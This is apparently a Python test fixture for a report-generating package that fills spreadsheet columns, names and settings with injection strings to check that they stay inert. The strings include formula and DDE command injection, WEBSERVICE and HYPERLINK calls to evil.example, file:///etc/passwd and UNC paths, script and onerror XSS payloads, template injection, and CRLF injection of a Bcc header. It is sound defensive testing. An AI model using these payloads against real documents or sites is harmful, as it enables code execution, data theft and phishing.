"""Texts that would be a formula, a link, markup or a command if a program let them, and a branch full of them."""

from dataclasses import replace
from pathlib import Path
from typing import Any

from reportkit.branch.folder import Branch
from reportkit.definitions.forms import FORMS
from tests.branches import ask_for, branch_in, rewrite, rows_of_advisor, settings_of_demo

TYPED = {
    "formula": "=1+1", "plus": "+1+1", "minus": "-2+3", "at": "@SUM(A1)", "array": "{=1+1}", "tab": "\t=1+1", "quote": "'=1+1",
    "dde": "=cmd|' /C calc'!A0", "dde of LibreOffice": '=DDE("soffice";"/etc/passwd";"A1")', "call": '=WEBSERVICE("http://evil.example")',
    "link": '=HYPERLINK("http://evil.example","x")', "address": "http://evil.example/x", "mail": "mailto:evil@evil.example",
    "share": r"\\evil.example\share\x", "file": "file:///etc/passwd", "inner": "internal:A!A1", "outer": r"external:c:\evil.xlsx",
    "run": "<r>a & b</r>", "page": '<script>alert(1)</script><img src=x onerror=alert(1)><a href="http://evil.example">x</a>', "entity": "&lt;b&gt; &amp; ]]>",
    "template": "{{ 7*7 }} {% raw %} ${x} {0} {name} %s", "markup": "[bold red]x[/] [link=http://evil.example]y[/link]",
    "lines": "x\r\nBcc: thief@evil.example\nEND:VEVENT\n\nx", "control": "a\x01\x07\x0b\x1b[31mb\x7f\x85c\u2028d", "escape": "_x000D_ _x0041_ _x005F_ _xD83D_",
    "bidi": "\u202e=1+1\u202c \u2066x\u2069\u200f", "emoji": "👩‍👩‍👧 🇨🇳 𠮷", "no character": "a\ufffe\uffffb",
}  # fmt: skip
LONGEST = "长" * 32_767
KEYS = {"customer_id", "case_id", "repeat_of", "referred_by"}


def nasty(rows: dict[str, list[dict[str, Any]]], *more: str) -> None:
    """Put all of it into every column of text that names nothing."""
    texts = [*TYPED.values(), *more]
    for code, of_form in rows.items():
        free = [one.code for one in FORMS[code].columns if one.kind == "text" and one.code not in KEYS]
        for at, row in enumerate(of_form):
            for number, column in enumerate(free):
                row[column] = texts[(at + number) % len(texts)]


def branch_with_all_of_it(folder: Path) -> Branch:
    """Make a branch whose logs and settings hold all of it, names of people, teams and the branch included."""
    branch = branch_in(folder)
    sheets = settings_of_demo()
    texts = list(TYPED.values())
    for at, row in enumerate(sheets["roster"]):
        row["name"], row["team"] = texts[at % len(texts)], texts[(at + 7) % len(texts)]
    sheets["faq"] = [{"category": "account", "question": text, "answer": text} for text in texts]
    sheets["branch"] = [{**row, "name": TYPED["lines"] + TYPED["control"]} for row in sheets["branch"]]
    sheets["roster"][0]["name"] = sheets["roster"][0]["team"] = TYPED["control"]
    sheets["mail"] = [{"email": "boss@example.com", "name": text, "report": "branch"} for text in texts[:1]]
    ask_for(branch, sheets)
    for log in branch.logs():
        log.unlink()
    for number in (1, 2):
        identity, rows = rows_of_advisor(number)
        nasty(rows, LONGEST)
        rewrite(branch, replace(identity, advisor_name=texts[number]), rows, f"{identity.advisor_id} x.xlsx")
    return branch
